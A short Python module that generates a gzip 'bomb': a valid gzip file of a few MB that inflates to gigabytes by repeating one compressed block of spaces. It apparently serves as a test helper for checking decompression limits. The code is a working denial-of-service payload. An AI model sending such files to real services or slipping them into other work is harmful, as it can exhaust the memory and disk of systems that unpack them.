"""A gzip bomb: a few MB on disk that inflate to GiB (deflate's best ratio, about 1:1000)."""

from __future__ import annotations

import functools
import struct
import zlib

GIB = 1024 * 1024 * 1024
_BLOCK = 1024 * 1024


@functools.cache
def gzip_bomb(head: bytes = b"", size: int = 2 * GIB) -> bytes:
    """A well-formed gzip file of ``head`` and then spaces, ``size`` bytes in all inflated,
    made without ever holding them: one compressed block of spaces, repeated (after a full
    flush each block compresses to the same bytes)."""
    spaces = b" " * _BLOCK
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(spaces) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(spaces) + deflate.flush(zlib.Z_FULL_FLUSH)
    assert block == again
    blocks, rest = divmod(size - len(head), _BLOCK)
    last = deflate.compress(b" " * rest) + deflate.flush()
    crc = zlib.crc32(head)
    for _ in range(blocks):
        crc = zlib.crc32(spaces, crc)
    crc = zlib.crc32(b" " * rest, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)
    return header + first + block * blocks + last + trailer
